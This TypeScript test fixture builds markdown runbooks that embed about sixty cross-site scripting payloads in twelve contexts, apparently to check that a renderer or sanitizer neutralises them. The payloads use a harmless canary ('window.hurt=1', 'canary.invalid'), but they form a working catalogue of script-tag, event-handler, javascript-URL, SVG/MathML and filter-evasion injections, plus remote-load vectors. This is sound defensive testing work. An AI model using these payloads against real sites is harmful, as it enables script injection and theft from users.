/** Where in a runbook a payload may stand. */
export const HOSTILE_CONTEXTS = [
  "text",
  "link-target",
  "image-source",
  "html-attribute",
  "code",
  "table-cell",
  "footnote",
  "heading",
  "front-matter",
  "step",
  "alert",
  "reference",
] as const;
export type HostileContext = (typeof HOSTILE_CONTEXTS)[number];

const AWAY = "https://canary.invalid";
const RUN = "window.hurt=1";

/** Each would set `window.hurt` or ask another host for something, where a page let it. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${AWAY}/s.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script\t>${RUN}</script\t>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}/i.png>`,
  `<img srcset="${AWAY}/i.png 1x" src=x>`,
  `<img src=x:x onerror="${RUN}" x=">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=\`javascript:${RUN}\`>`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${AWAY}/u.svg#x"/></svg>`,
  `<svg><image href="${AWAY}/i.png"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.hurt=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>`,
  `<iframe src=${AWAY}/f></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data=${AWAY}/o></object>`,
  `<embed src=${AWAY}/e>`,
  `<video src=${AWAY}/v onerror=${RUN} autoplay></video>`,
  `<audio src=${AWAY}/a onerror=${RUN}></audio>`,
  `<video poster=${AWAY}/p></video>`,
  `<video><source onerror=${RUN} src=x></video>`,
  `<picture><source srcset=${AWAY}/s><img src=x></picture>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button formaction=javascript:${RUN} autofocus>x</button>`,
  `<form action=${AWAY}><input type=submit></form>`,
  `<isindex type=image src=${AWAY}/x>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}" ping=${AWAY}>x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<link rel=stylesheet href=${AWAY}/c.css>`,
  `<link rel=preload as=image href=${AWAY}/l>`,
  `<style>@import "${AWAY}/c.css"; * { background: url(${AWAY}/b) }</style>`,
  `<div style="background:url(${AWAY}/b)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}/>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<table background=${AWAY}/t><tr><td background=${AWAY}/d>x</table>`,
  `[x](javascript:${RUN})`,
  `[x](<java\nscript:${RUN}>)`,
  `![x](${AWAY}/m.png)`,
  `<javascript:${RUN}>`,
];

/** Ways a payload may stand at one place of a runbook; the first line of one that takes only a line. */
const WRAP: Record<HostileContext, (payload: string, at: number) => string> = {
  text: (payload) => payload,
  "link-target": (payload, at) =>
    `[a](${payload}) [b](<${line(payload)}>) [c](x "${line(payload)}") <a href="${payload}">d</a> <a href='${payload}'>${at}</a>`,
  "image-source": (payload) => `![a](${payload}) ![${payload}](x.png) <img alt="${payload}" src='${payload}'>`,
  "html-attribute": (payload) => `<div title="${payload}" id='${payload}' align=${payload}>a</div>`,
  code: (payload) => `\`${payload}\`\n\n\`\`\`${line(payload)}\n${payload}\n\`\`\`\n\n    ${line(payload)}`,
  "table-cell": (payload) => `| ${line(payload)} | b |\n|---|---|\n| ${line(payload)} | \`${line(payload)}\` |`,
  footnote: (payload, at) => `Note[^${at}].\n\n[^${at}]: ${payload}`,
  heading: (payload) => `## ${line(payload)}`,
  "front-matter": (payload) => payload,
  step: (payload) => `- [ ] ${line(payload)}\n  - [ ] ${payload}`,
  alert: (payload) => `> [!WARNING]\n> ${line(payload)}`,
  reference: (payload, at) =>
    `[x][r${at}] ![y][r${at}]\n\n[r${at}]: ${line(payload).replaceAll(" ", "%20")} "${line(payload)}"`,
};

const line = (payload: string): string => payload.replaceAll("\n", " ");

/** A runbook with every payload at one place. Each stands between words of its own, so that none hides the next. */
export function hostileRunbook(context: HostileContext): string {
  const body = HOSTILE_PAYLOADS.map((payload, at) => WRAP[context](payload, at)).join("\n\nBetween.\n\n");
  const title = context === "heading" ? `# ${line(HOSTILE_PAYLOADS[10] ?? "")}` : `# As ${context}`;
  const text = `${title}\n\n${body}\n\n</div></table></details>\n\nThe end of the payloads.\n`;
  if (context !== "front-matter") return text;
  const quoted = (from: number, to: number) =>
    JSON.stringify(HOSTILE_PAYLOADS.slice(from, to).map((payload) => line(payload).slice(0, 90)));
  const fields = [
    `title: ${JSON.stringify(HOSTILE_PAYLOADS[0])}`,
    `summary: ${JSON.stringify(HOSTILE_PAYLOADS.slice(0, 8).join(" ").slice(0, 900))}`,
    ...["owner", "tags", "services", "environments", "alerts"].map(
      (name, at) => `${name}: ${quoted(at * 13, at * 13 + 13)}`,
    ),
  ];
  return `---\n${fields.join("\n")}\n---\n\nThe end of the payloads.\n`;
}
